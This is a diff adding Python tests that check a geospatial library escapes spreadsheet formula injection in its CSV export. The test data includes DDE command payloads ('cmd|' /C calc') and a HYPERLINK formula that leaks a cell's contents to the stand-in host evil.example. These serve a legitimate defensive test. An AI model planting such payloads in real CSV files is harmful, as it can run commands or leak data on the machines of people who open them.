@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import math
@@ -222,6 +223,40 @@ def test_csv_round_trip_points_has_lon_lat():
     assert shapely.equals_exact(decoded.geometries[keep], geoms[keep], tolerance=0).all()
     _assert_columns(decoded, columns)
     assert set(decoded.columns) == set(columns)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_escapes_formulas(value):
+    # Issue 11, finding 6: these came back as is in a CSV meant for Excel.
+    geoms = np.array([shapely.Point(121.16, 31.29)], dtype=object)
+    columns = {
+        "note": np.array([value], dtype=object),
+        "level": np.array([-3], dtype=np.int64),
+        "depth": np.array([-1.5]),
+    }
+    payload, _ = encode(geoms, columns, "csv")
+    (row,) = list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))
+    assert row["note"] == "'" + value  # shown as text, the formula visible, not run
+    assert (row["level"], row["depth"]) == ("-3", "-1.5")  # our own numbers stay numbers
+    assert row["lon"] == "121.16"
+
+
+def test_csv_export_leaves_ordinary_text_alone():
+    geoms = np.array([shapely.Point(121.16, 31.29)] * 3, dtype=object)
+    columns = {"note": np.array(["星明村 a=b", "'quoted", "1-2"], dtype=object)}
+    payload, _ = encode(geoms, columns, "csv")
+    rows = list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))
+    assert [r["note"] for r in rows] == ["星明村 a=b", "'quoted", "1-2"]
 
 
 def test_csv_export_of_projected_layer_is_wgs84():
